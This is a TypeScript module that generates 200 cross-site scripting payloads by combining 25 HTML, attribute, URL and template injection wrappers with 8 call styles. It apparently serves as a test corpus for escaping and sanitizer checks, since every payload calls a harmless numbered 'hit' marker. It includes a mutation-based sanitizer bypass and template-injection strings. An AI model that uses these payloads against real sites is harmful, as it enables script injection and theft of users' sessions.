/** Texts that would run a script wherever text is taken for markup, a script, a style or an address. */

const CALLS = (n: number) => [
  `hit(${n})`,
  `top.hit(${n})`,
  `self['hit'](${n})`,
  `fetch('/hit/${n}')`,
  `eval('hit(${n})')`,
  `hit\`${n}\``,
  `[${n}].find(hit)`,
  `new Image().src='/hit/${n}'`,
];

const WRAPS: ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `</script><script>${call}//`,
  (call) => `<img src=x onerror="${call}">`,
  (call) => `"><img src=x onerror="${call}">`,
  (call) => `' onmouseover='${call}' x='`,
  (call) => `" autofocus onfocus="${call}" x="`,
  (call) => `<svg onload="${call}">`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `javascript:${call}`,
  (call) => `<details open ontoggle="${call}">x</details>`,
  (call) => `<body onload="${call}">`,
  (call) => `<input autofocus onfocus="${call}">`,
  (call) => `<video><source onerror="${call}"></video>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart="${call}">`,
  (call) => `{{constructor.constructor("${call}")()}}`,
  (call) => `\${${call}}`,
  (call) => `</title></textarea></style><img src=x onerror="${call}">`,
  (call) => `<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
  (call) => `&lt;img src=x onerror="${call}"&gt; %3Cscript%3E${call}%3C/script%3E \\u003cscript\\u003e${call}`,
];

/** 200 of them: every way to smuggle with every way to call. */
export const PAYLOADS: string[] = WRAPS.flatMap((wrap, at) =>
  CALLS(0).map((_, way) => wrap(CALLS(at * 8 + way)[way] as string)),
);
